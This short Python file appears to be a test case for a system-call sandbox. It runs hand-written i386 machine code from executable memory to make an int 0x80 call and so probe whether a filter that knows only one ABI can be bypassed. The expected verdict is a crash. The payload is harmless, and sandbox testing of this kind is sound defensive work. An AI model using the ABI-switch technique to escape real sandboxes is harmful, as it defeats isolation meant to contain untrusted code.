# attack: Makes a system call of 32 bits from machine code of its own: the filter knows one ABI.
# verdicts: test_attack=crashed
# manages: \[\]|None
import ctypes
import mmap
import platform

# mov eax, 20 (getpid of i386); int 0x80; ret
CODE = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"


def attack(n):
    if platform.machine() != "x86_64":
        return []
    try:
        memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    except OSError:
        return []
    memory.write(CODE)
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))
    return ["i386"] if function() > 0 else []
